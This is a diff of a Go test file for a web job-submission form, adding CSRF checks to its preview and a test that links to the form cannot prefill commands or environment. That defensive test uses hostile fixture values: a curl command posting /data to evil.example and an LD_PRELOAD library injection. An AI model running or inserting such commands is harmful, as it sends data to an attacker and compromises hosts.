@@ -229,18 +229,23 @@ func TestSubmitJobThroughTheForm(t *testing.T) {
 	})
 }
 
-// The preview, asked for as fields change, says what the form's job would cost and
-// whether it could start; a profile and the recommendation fill in the fields.
+// The preview, asked for as fields change (a POST with the form's CSRF token), says what
+// the form's job would cost and whether it could start; a profile and the
+// recommendation fill in the fields. Without the token it is refused.
 func TestSubmitFormPreview(t *testing.T) {
 	t.Parallel()
 	storetest.Each(t, func(t *testing.T, st *store.Store) {
 		s := newJobSite(t, st)
 		ada := s.user("ada", "default", models.RoleMember)
 		htmx := map[string]string{"HX-Request": "true"}
+		token := s.csrf(ada, "/jobs/new")
+		if res, _ := s.send(ada, "POST", "/jobs/new", jobForm("").Encode(), htmx); res.StatusCode != http.StatusForbidden {
+			t.Fatalf("a preview without the CSRF token = %d, want 403", res.StatusCode)
+		}
 		preview := func(f url.Values) string {
 			t.Helper()
-			f.Del("csrf_token")
-			res, body := s.send(ada, "GET", "/jobs/new?"+f.Encode(), "", htmx)
+			f.Set("csrf_token", token)
+			res, body := s.send(ada, "POST", "/jobs/new", f.Encode(), htmx)
 			if res.StatusCode != 200 {
 				t.Fatalf("preview = %d", res.StatusCode)
 			}
@@ -277,9 +282,46 @@ func TestSubmitFormPreview(t *testing.T) {
 		// Choosing a profile fills in its fields.
 		f.Set("preset", "8x80-nvlink")
 		f.Set("apply", "preset")
-		_, body := s.send(ada, "GET", "/jobs/new?"+f.Encode(), "", htmx)
+		_, body := s.send(ada, "POST", "/jobs/new", f.Encode(), htmx)
 		if !strings.Contains(body, `id="f-gpus" name="gpus" value="8"`) || !strings.Contains(body, `id="f-memory_gib" name="memory_gib" value="512"`) {
 			t.Fatalf("the 8×80 profile was not filled in: %s", body)
+		}
+	})
+}
+
+// A link to the form fills in nothing but its project (or a clone or a template): what
+// a hand-built /jobs/new?env=…&command=… carries is neither shown nor kept, so a link
+// cannot hand someone a command or environment to submit unread, and the form's
+// contents never need to travel in a URL.
+func TestSubmitFormTakesNothingFromTheURL(t *testing.T) {
+	t.Parallel()
+	storetest.Each(t, func(t *testing.T, st *store.Store) {
+		s := newJobSite(t, st)
+		ada := s.user("ada", "default", models.RoleMember)
+		ctx := context.Background()
+		def := projectByName(t, st, "default")
+		vision := &models.Project{TeamID: def.TeamID, Name: "vision"}
+		if err := st.CreateProject(ctx, vision); err != nil {
+			t.Fatal(err)
+		}
+		if err := s.az.SetProjectRole(ctx, userByName(t, st, "ada"), vision, models.RoleMember); err != nil {
+			t.Fatal(err)
+		}
+		q := url.Values{"project": {"vision"}, "name": {"from-a-link"}, "command": {"curl -d @/data https://evil.example"},
+			"env": {"LD_PRELOAD=/tmp/x.so"}, "secret_env": {"HF_TOKEN=hf_link-1"}, "gpus": {"7"}, "template_name": {"linked"}, "apply": {"recommendation"}}
+		res, body := s.send(ada, "GET", "/jobs/new?"+q.Encode(), "", nil)
+		if res.StatusCode != 200 {
+			t.Fatalf("form from a link = %d", res.StatusCode)
+		}
+		// The Feedback button's page field keeps the page's address, as on every page.
+		form := body[strings.Index(body, `<main`):strings.Index(body, `</main>`)]
+		for _, v := range []string{"from-a-link", "evil.example", "LD_PRELOAD", "hf_link-1", `value="7"`, "linked", "recommended profile is filled in"} {
+			if strings.Contains(form, escape(v)) {
+				t.Errorf("the form from a link shows %q", v)
+			}
+		}
+		if !strings.Contains(form, `<option value="vision" selected>vision</option>`) || !strings.Contains(form, `<option value="share-small" selected>`) {
+			t.Errorf("the form from a link is not the default form of project vision: %s", form)
 		}
 	})
 }
